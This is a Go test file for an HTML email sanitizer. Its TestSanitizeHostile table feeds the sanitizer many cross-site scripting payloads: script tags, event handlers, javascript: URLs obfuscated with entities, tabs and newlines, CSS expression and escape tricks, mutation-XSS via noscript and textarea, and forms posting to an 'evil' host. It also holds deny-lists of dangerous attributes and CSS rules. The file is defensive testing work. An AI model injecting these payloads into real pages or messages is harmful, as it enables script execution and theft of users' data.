package mailview

import (
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// urlAttrs are the attributes that browsers load or follow as URLs.
var urlAttrs = set("href", "src", "action", "formaction", "background", "poster", "cite", "data",
	"srcset", "lowsrc", "dynsrc", "ping", "xlink:href", "codebase", "longdesc", "usemap")

// unsafeReason re-parses sanitized output the way a browser would and
// returns what is dangerous in it, or "".
func unsafeReason(out string, allowRemote bool) string {
	doc, err := html.Parse(strings.NewReader(out))
	if err != nil {
		return "unparseable: " + err.Error()
	}
	reason := ""
	descend(doc, func(n *html.Node) bool {
		if n.Type != html.ElementNode {
			return true
		}
		if n.Data == "style" && n.Namespace == "" && n.Parent != nil && n.Parent.Data == "head" && n.PrevSibling == nil {
			// The sheet, which Sanitize writes first.
			reason = unsafeSheet(textContent(n), allowRemote)
			return reason == ""
		}
		if n.Namespace != "" || dropElements[n.Data] && n.Data != "head" && n.Data != "title" {
			reason = "element <" + n.Data + ">"
			return false
		}
		for _, a := range n.Attr {
			key := strings.ToLower(a.Key)
			val := strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
			switch {
			case strings.HasPrefix(key, "on"):
				reason = "event handler " + a.Key
			case urlAttrs[key] && (strings.Contains(val, "javascript:") || strings.Contains(val, "vbscript:")):
				reason = "script URL in " + a.Key
			case key == "src" && !allowRemote && !strings.HasPrefix(val, "data:image/"):
				reason = "remote src " + a.Val
			case key == "src" && !strings.HasPrefix(val, "data:image/") && !strings.HasPrefix(val, "http://") &&
				!strings.HasPrefix(val, "https://"):
				reason = "src " + a.Val
			case key == "style" && (strings.Contains(stripURLs(val, allowRemote), "url(") || strings.Contains(val, "expression") ||
				strings.Contains(val, "position") || strings.Contains(val, "behavior") || strings.Contains(val, `\`)):
				reason = "unsafe style " + a.Val
			case key == "srcset" || key == "background" || key == "poster" || key == "lowsrc" ||
				key == "dynsrc" || key == "ping" || key == "formaction" || key == "action":
				reason = "attribute " + a.Key
			case key == "href" && !strings.HasPrefix(val, "http://") && !strings.HasPrefix(val, "https://") &&
				!strings.HasPrefix(val, "mailto:"):
				reason = "href " + a.Val
			case key == "src" && strings.HasPrefix(val, "data:") && !reDataImage.MatchString(val):
				reason = "data src " + a.Val
			}
		}
		return reason == ""
	})
	return reason
}

// unsafeSheet returns what is dangerous in a style sheet Sanitize wrote,
// or "".
func unsafeSheet(sheet string, allowRemote bool) string {
	lower := strings.ToLower(sheet)
	for _, bad := range []string{"@import", "@font", "@keyframes", "@namespace", "@charset", "@supports",
		"@layer", "@page", "[", ":visited", ":has(", `\\`, "/*", "<", "expression(", "var(", "attr(", "image-set"} {
		if strings.Contains(lower, bad) {
			return "style sheet with " + bad + ": " + sheet
		}
	}
	if m := reUnsafeProperty.FindString(lower); m != "" {
		return "style sheet with " + m + ": " + sheet
	}
	if strings.Count(lower, "@") != strings.Count(lower, "@media ") {
		return "style sheet with an at-rule: " + sheet
	}
	if strings.Contains(stripURLs(lower, allowRemote), "url(") {
		return "style sheet with url(): " + sheet
	}
	return ""
}

var reUnsafeProperty = regexp.MustCompile(`(?:^|[{;])\s*(?:position|animation[a-z-]*|transition[a-z-]*|content|cursor|behavior|-moz-binding|filter|mask[a-z-]*|list-style-image|border-image[a-z-]*|--[a-z0-9-]*)\s*:`)

// stripURLs removes the url()s a sanitized style may hold: quoted data:
// images, and with allowRemote quoted http and https addresses.
func stripURLs(css string, allowRemote bool) string {
	re := regexp.MustCompile(`url\("data:image/(png|gif|jpeg|webp);base64,[a-z0-9+/=]+"\)`)
	if allowRemote {
		re = regexp.MustCompile(`url\("(data:image/(png|gif|jpeg|webp);base64,[a-z0-9+/=]+|https?://[^"()\\ ]+)"\)`)
	}
	return re.ReplaceAllString(strings.ToLower(css), "")
}

func TestSanitizeHostile(t *testing.T) {
	tests := []struct {
		name    string
		in      string
		remote  bool
		mustNot []string // lower-case substrings that must not appear
		want    []string // substrings that must appear
	}{
		{"script", `<p>hi</p><script>alert(1)</script>`, false, []string{"<script", "alert"}, []string{"<p>hi</p>"}},
		{"img onerror", `<img src=x onerror=alert(1)>`, false, []string{"onerror", "alert"}, nil},
		{"svg script", `<svg><script>alert(1)</script></svg>`, false, []string{"<svg", "<script", "alert"}, nil},
		{"svg onload", `<svg onload=alert(1)><circle r=5 /></svg>`, false, []string{"<svg", "onload", "circle"}, nil},
		{"math", `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`, false, []string{"<math", "<mi", "javascript"}, nil},
		{"javascript href", `<a href="javascript:alert(1)">x</a>`, false, []string{"javascript", "href"}, []string{"x"}},
		{"javascript case", `<a href="JaVaScRiPt:alert(1)">x</a>`, false, []string{"javascript", "href"}, nil},
		{"javascript entities", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`, false, []string{"javascript", "alert", "href"}, nil},
		{"javascript tab entity", `<a href="jav&#x09;ascript:alert(1)">x</a>`, false, []string{"ascript", "href"}, nil},
		{"javascript newline", "<a href=\"java\nscript:alert(1)\">x</a>", false, []string{"script", "href"}, nil},
		{"javascript leading space", `<a href=" &#14; javascript:alert(1)">x</a>`, false, []string{"javascript", "href"}, nil},
		{"vbscript", `<a href="vbscript:msgbox(1)">x</a>`, false, []string{"vbscript", "href"}, nil},
		{"data href", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, false, []string{"data:", "href"}, nil},
		{"css url", `<div style="background:url(http://x/y.png)">t</div>`, false, []string{"url(", "http://x"}, []string{">t</div>"}},
		{"css url keeps safe part", `<p style="color: red; background-image: url(http://x)">t</p>`, false, []string{"url(", "background-image"}, []string{"color: red"}},
		{"css behavior", `<p style="behavior: url(x.htc)">t</p>`, false, []string{"behavior", "htc"}, nil},
		{"css expression", `<p style="width: expression(alert(1))">t</p>`, false, []string{"expression", "alert"}, nil},
		{"css escape", `<p style="background: \75rl(http://x)">t</p>`, false, []string{"\\75", "http://x"}, nil},
		{"css image-set", `<p style="background-image: image-set('http://x/a.png' 1x)">t</p>`, false, []string{"image-set", "http://x"}, nil},
		{"css position fixed", `<div style="position:fixed;top:0;left:0;width:100%;height:100%">pay here</div>`, false, []string{"position", "fixed", "top:"}, []string{"pay here"}},
		{"css comment", `<p style="color:red;/**/background:u/**/rl(http://x)">t</p>`, false, []string{"http://x"}, nil},
		{"style element import", `<style>@import url(http://x/a.css);</style><p>t</p>`, false, []string{"@import", "<style", "http://x"}, []string{"<p>t</p>"}},
		{"style element", `<style>p{color:red}</style><p>t</p>`, false, nil, []string{"<style>p{color: red}</style>"}},
		{"base", `<base href="http://evil/"><a href="x">t</a>`, false, []string{"<base", "evil"}, nil},
		{"meta refresh", `<meta http-equiv="refresh" content="0;url=http://evil/"><p>t</p>`, false, []string{"<meta", "refresh", "evil"}, nil},
		{"link stylesheet", `<link rel="stylesheet" href="http://evil/a.css"><p>t</p>`, false, []string{"<link", "evil"}, nil},
		{"form", `<form action="http://evil/"><input name="pw" type="password"><button formaction="http://evil">Go</button></form>`, false, []string{"<form", "<input", "<button", "evil", "action"}, nil},
		{"iframe", `<iframe src="http://evil/"></iframe><p>t</p>`, false, []string{"<iframe", "evil"}, nil},
		{"iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, false, []string{"<iframe", "srcdoc", "script"}, nil},
		{"object", `<object data="http://evil/x.swf"></object>`, false, []string{"<object", "evil"}, nil},
		{"embed", `<embed src="http://evil/x.swf">`, false, []string{"<embed", "evil"}, nil},
		{"srcset", `<img src="data:image/png;base64,iVBORw0KGgo=" srcset="http://evil/a.png 2x">`, false, []string{"srcset", "evil"}, []string{"data:image/png"}},
		{"video poster", `<video poster="http://evil/p.png"><source src="http://evil/v.mp4"></video>`, false, []string{"<video", "poster", "evil"}, nil},
		{"background attr", `<table background="http://evil/bg.png"><tr><td background="http://evil/bg.png">t</td></tr></table>`, false, []string{"background", "evil"}, []string{">t</td>"}},
		{"lowsrc dynsrc", `<img src="data:image/gif;base64,R0lGODlh" lowsrc="http://evil/a" dynsrc="http://evil/b">`, false, []string{"lowsrc", "dynsrc", "evil"}, nil},
		{"ping", `<a href="https://ok.example/" ping="http://evil/track">t</a>`, false, []string{"ping", "evil"}, []string{`href="https://ok.example/"`}},
		// The payload may survive as inert attribute text, never as an element.
		{"noscript mutation", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, false, []string{"<img", "<noscript"}, nil},
		{"textarea mutation", `<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>`, false, []string{"onerror", "<img"}, nil},
		{"template", `<template><img src=x onerror=alert(1)></template>`, false, []string{"onerror", "<img"}, nil},
		{"tracking pixel", `<p>hi</p><img src="http://t.example/x.gif" width="1" height="1">`, false, []string{"t.example", "<img"}, []string{"<p>hi</p>"}},
		{"svg data image", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, false, []string{"svg", "<img"}, nil},
		{"data html image", `<img src="data:text/html;base64,PHNjcmlwdD4=">`, false, []string{"data:text", "<img"}, nil},
		{"remote image allowed", `<img src="https://img.example/a.png" onerror="alert(1)">`, true, []string{"onerror", "alert"}, []string{`src="https://img.example/a.png"`}},
		{"remote script still blocked", `<script src="https://img.example/a.js"></script><img src="javascript:alert(1)">`, true, []string{"<script", "javascript", "<img"}, nil},
		{"event handlers", `<body onload="alert(1)"><div onclick="alert(2)" onmouseover="alert(3)">t</div></body>`, false, []string{"onload", "onclick", "onmouseover", "alert"}, []string{">t</div>"}},
		{"xml namespace", `<html xmlns:x="urn:x"><x:script>alert(1)</x:script></html>`, false, []string{"<x:script"}, nil},
		{"link target", `<a href="https://ok.example/" target="_self" rel="opener">t</a>`, false, []string{"_self", `"opener"`}, []string{`target="_blank"`, `rel="noopener noreferrer"`}},
		{"mailto", `<a href="mailto:someone@example.com">m</a>`, false, nil, []string{`href="mailto:someone@example.com"`}},
		{"script text in a title is inert", `<p title="javascript:alert(1)">t</p>`, false, []string{"<script"}, []string{`title="javascript:alert(1)"`}},
		{"relative href", `<a href="/logout">t</a>`, false, []string{"logout"}, nil},
		{"protocol relative image", `<img src="//t.example/x.gif">`, false, []string{"t.example"}, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, _ := Sanitize(tc.in, tc.remote)
			lower := strings.ToLower(got)
			for _, bad := range tc.mustNot {
				if strings.Contains(lower, bad) {
					t.Errorf("Sanitize(%q) = %q, want no %q", tc.in, got, bad)
				}
			}
			for _, want := range tc.want {
				if !strings.Contains(got, want) {
					t.Errorf("Sanitize(%q) = %q, want it to contain %q", tc.in, got, want)
				}
			}
			if reason := unsafeReason(got, tc.remote); reason != "" {
				t.Errorf("Sanitize(%q) = %q: %s", tc.in, got, reason)
			}
		})
	}
}
